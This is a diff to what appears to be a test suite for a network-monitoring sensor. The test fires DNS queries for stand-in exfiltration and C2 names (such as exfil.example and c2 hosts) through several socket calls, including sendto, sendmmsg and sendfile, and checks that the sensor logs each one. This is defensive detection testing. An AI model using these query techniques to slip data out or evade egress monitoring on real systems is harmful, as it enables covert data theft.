@@ -226,6 +226,26 @@ q = query("iov-{tag}.exfil.example")
 u.sendmsg([q[:12], q[12:]])
 q = query("sendto-{tag}.exfil.example")
 socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ("127.0.0.1", 53))
+c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+c.connect(("127.0.0.1", 9))
+c.sendto(query("named-{tag}.exfil.example"), ("127.0.0.1", 53))   # the name wins over the peer
+import ctypes
+class Iov(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+class Hdr(ctypes.Structure):
+    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Iov)),
+                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
+                ("flags", ctypes.c_int)]
+class Msg(ctypes.Structure):   # struct mmsghdr
+    _fields_ = [("hdr", Hdr), ("len", ctypes.c_uint32)]
+def to(port):
+    return ctypes.create_string_buffer(struct.pack("<H", 2) + struct.pack(">H", port) + socket.inet_aton("127.0.0.1") + bytes(8), 16)
+payloads = [ctypes.create_string_buffer(1), ctypes.create_string_buffer(query("mmsg-{tag}.exfil.example"))]
+names = [to(9), to(53)]
+iovs = [Iov(ctypes.addressof(payloads[0]), 0), Iov(ctypes.addressof(payloads[1]), len(payloads[1]) - 1)]
+msgs = (Msg * 2)(*[Msg(Hdr(ctypes.addressof(names[i]), 16, ctypes.pointer(iovs[i]), 1, None, 0, 0), 0) for i in range(2)])
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+assert ctypes.CDLL(None).sendmmsg(u.fileno(), msgs, 2, 0) == 2   # an empty datagram first, then a question
 with open("{workdir}/sendfile-query", "wb") as f:
     f.write(query("sendfile-{tag}.exfil.example"))
 with open("{workdir}/sendfile-query", "rb") as f:
@@ -250,18 +270,23 @@ kill $server
     run(write_executable(workdir / "dns.sh", f"#!/bin/sh\nexec unshare -n -m /bin/sh {workdir}/inner.sh\n"), timeout=60)
     names = {f"c2-{tag}.example.com", f"stdin-{tag}.exfil.example", f"b1-{tag}.exfil.example",
              f"b2-{tag}.exfil.example", f"tcp-{tag}.exfil.example", f"{tag}{tag}.stdin.exfil.example",
-             f"split-{tag}.exfil.example", f"iov-{tag}.exfil.example", f"sendto-{tag}.exfil.example"}
-    hits = socket_rows(sensor, lambda r: r["action"] == "dns_query" and tag in r["dns_name"], count=11, timeout=15)
+             f"split-{tag}.exfil.example", f"iov-{tag}.exfil.example", f"sendto-{tag}.exfil.example",
+             f"named-{tag}.exfil.example", f"mmsg-{tag}.exfil.example"}
+    hits = socket_rows(sensor, lambda r: r["action"] == "dns_query" and tag in r["dns_name"], count=12, timeout=15)
     asked = {(r["comm"], r["dns_name"], r["dns_type"], r["protocol"]) for r in hits}
     python = os.path.basename(PYTHON)[:15]
     # curl's A and AAAA leave in one sendmmsg (glibc): both are read, each from its own message.
     assert {("curl", f"c2-{tag}.example.com", "A", 17), ("curl", f"c2-{tag}.example.com", "AAAA", 17),
             ("dig", f"tcp-{tag}.exfil.example", "TXT", 6), (python, f"split-{tag}.exfil.example", "A", 6),
-            (python, f"iov-{tag}.exfil.example", "A", 17), (python, f"sendto-{tag}.exfil.example", "A", 17)} <= asked, asked
+            (python, f"iov-{tag}.exfil.example", "A", 17), (python, f"sendto-{tag}.exfil.example", "A", 17),
+            (python, f"mmsg-{tag}.exfil.example", "A", 17)} <= asked, asked
     # A sendfile: egress reads the datagram; at the syscall, there is no buffer to read
     # it from, so it is a question with no name, and the status row counts it.
+    # A datagram named to port 53 on a socket connected elsewhere: egress knows the socket's
+    # peer only (docs/design.md).
     btf = sensor.status()["probe_mode"] == "btf"
-    assert {name for _, name, _, _ in asked} == names | (set() if btf else {f"sendfile-{tag}.exfil.example"}), asked
+    expected = names if btf else names - {f"named-{tag}.exfil.example"} | {f"sendfile-{tag}.exfil.example"}
+    assert {name for _, name, _, _ in asked} == expected, asked
     if btf:
         unread = socket_rows(sensor, lambda r: r["action"] == "dns_query" and r["dns_name"] == ""
                              and str(workdir / "ask.py") in r["origin"])
